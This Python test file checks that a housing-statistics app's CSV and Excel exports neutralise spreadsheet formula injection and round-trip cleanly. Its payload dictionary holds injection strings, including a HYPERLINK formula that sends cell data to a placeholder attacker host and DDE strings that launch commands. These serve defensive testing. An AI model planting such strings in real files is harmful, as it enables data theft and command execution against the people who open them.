"""Exports open safely in a spreadsheet: text from users never becomes a formula."""

import csv
import io
import json

from jsonstat_validator import validate_jsonstat
from openpyxl import load_workbook

from boligsosial.reporting import services, transfer
from boligsosial.reporting.models import ReportValue
from boligsosial.reporting.tests.test_transfer_csv_import import snapshot

PAYLOADS = {
    "comment": '=HYPERLINK("https://angriper.example/?d="&A1,"Klikk")',
    "reason": "+cmd|' /C calc'!A0",
    "answer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dash": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _with_payloads(world, report):
    services.report_save(
        user=world.drammen_leader,
        report=report,
        version=None,
        values=[
            services.ValueInput("homeless_persons", raw="40", comment=PAYLOADS["comment"]),
            services.ValueInput("evictions", not_available=True, reason=PAYLOADS["reason"]),
            services.ValueInput("settled_households", raw="9", comment=PAYLOADS["dash"]),
            services.ValueInput("municipal_homes", raw="900", comment=PAYLOADS["tab"]),
        ],
        answers={"status": PAYLOADS["answer"]},
    )


def _inert(text) -> bool:
    return not (isinstance(text, str) and text.startswith(TRIGGERS))


def test_the_csv_export_writes_formula_like_text_as_text(world, draft):
    _with_payloads(world, draft)
    exported = transfer.to_csv(transfer.export_values(world.programme, user=world.admin))
    rows = list(csv.reader(io.StringIO(exported)))
    cells = [cell for row in rows[1:] for cell in row[5:]]
    assert "'" + PAYLOADS["comment"] in cells and "'" + PAYLOADS["reason"] in cells
    assert (
        "'" + PAYLOADS["dash"] in cells and "'" + PAYLOADS["tab"].strip() in cells
    )  # stored trimmed
    assert all(_inert(cell) for row in rows for cell in row)


def test_the_csv_export_reads_back_with_the_texts_as_they_were(world, draft):
    _with_payloads(world, draft)
    exported = transfer.to_csv(transfer.export_values(world.programme, user=world.admin))
    ReportValue.objects.all().delete()
    transfer.import_csv(user=world.admin, programme=world.programme, data=exported)
    comments = set(ReportValue.objects.values_list("comment", flat=True))
    assert PAYLOADS["comment"] in comments and PAYLOADS["dash"] in comments
    assert (
        ReportValue.objects.get(indicator__code="evictions").not_available_reason
        == (PAYLOADS["reason"])
    )


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_programme_workbook_has_no_formula_cells(world, draft):
    _with_payloads(world, draft)
    workbook = load_workbook(
        io.BytesIO(
            transfer.to_excel_long(transfer.export_values(world.programme, user=world.admin))
        )
    )
    cells = list(_cells(workbook))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(_inert(c.value) for c in cells)
    assert "'" + PAYLOADS["comment"] in {c.value for c in cells}


def test_the_report_workbook_has_no_formula_cells_and_reads_back_unchanged(world, draft):
    _with_payloads(world, draft)
    draft.refresh_from_db()
    data = transfer.report_workbook(draft)
    workbook = load_workbook(io.BytesIO(data))
    cells = list(_cells(workbook))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(_inert(c.value) for c in cells)
    values = {c.value for c in cells}
    assert "'" + PAYLOADS["answer"] in values and "'" + PAYLOADS["reason"] in values
    transfer.import_report_workbook(
        user=world.drammen_leader, report=draft, data=data, version=draft.version
    )
    assert draft.values.get(indicator__code="homeless_persons").comment == PAYLOADS["comment"]
    assert draft.answers.get(question__code="status").text == PAYLOADS["answer"]


def test_export_then_import_gives_the_same_data(world, complete_draft):
    services.report_save(
        user=world.drammen_leader,
        report=complete_draft,
        version=None,
        values=[
            services.ValueInput("homeless_persons", "under25", raw="10"),
            services.ValueInput("homeless_persons", "25plus", raw="30"),
            services.ValueInput(
                "evictions", not_available=True, reason="Ikke registrert", comment="Kommer i 2011"
            ),
            services.ValueInput(
                "rent_arrears_nok", raw="250000,5", comment='Etter, komma "og" sitat'
            ),
        ],
    )
    before = snapshot(world.programme)
    exported = transfer.to_csv(transfer.export_values(world.programme, user=world.admin))
    ReportValue.objects.all().delete()
    transfer.import_csv(user=world.admin, programme=world.programme, data=exported)
    assert snapshot(world.programme) == before
    assert transfer.to_csv(transfer.export_values(world.programme, user=world.admin)) == exported


def test_the_jsonstat_export_validates_and_its_values_match_the_database(world, approved):
    services_values = ReportValue.objects.filter(report=approved).select_related(
        "indicator", "option"
    )
    dataset = transfer.to_jsonstat(
        transfer.export_values(world.programme, user=world.admin, approved_only=True),
        programme=world.programme,
    )
    assert validate_jsonstat(json.loads(json.dumps(dataset)))
    size, ids = dataset["size"], dataset["id"]
    index = {dim: dataset["dimension"][dim]["category"]["index"] for dim in ids}
    assert services_values.count() > 25
    for row in services_values.exclude(indicator__unit="date"):
        if row.indicator.is_derived:  # derived values are in no export (DERIVED_NOTE)
            continue
        coords = [
            "0602",
            "2010S2",
            row.indicator.code,
            row.option.code if row.option_id else "total",
        ]
        flat = 0
        for position, dim in enumerate(ids):
            flat = flat * size[position] + index[dim][coords[position]]
        assert dataset["value"][str(flat)] == (None if row.not_available else float(row.value))


def test_not_available_is_null_with_status_in_jsonstat_and_a_comment_only_value_in_dhis2(
    world, draft
):
    services.report_save(
        user=world.drammen_leader,
        report=draft,
        version=None,
        values=[services.ValueInput("evictions", not_available=True, reason="Ikke registrert")],
    )
    values = transfer.export_values(world.programme, user=world.admin)
    dataset = transfer.to_jsonstat(values, programme=world.programme)
    assert list(dataset["value"].values()) == [None] and list(dataset["status"].values()) == ["na"]
    dhis2 = transfer.to_dhis2(values)
    assert dhis2["dataValues"] == [
        {
            "dataElement": "evictions",
            "period": "2010S2",
            "orgUnit": "0602",
            "categoryOptionCombo": "default",
            "comment": "Ikke tilgjengelig: Ikke registrert",
        }
    ]
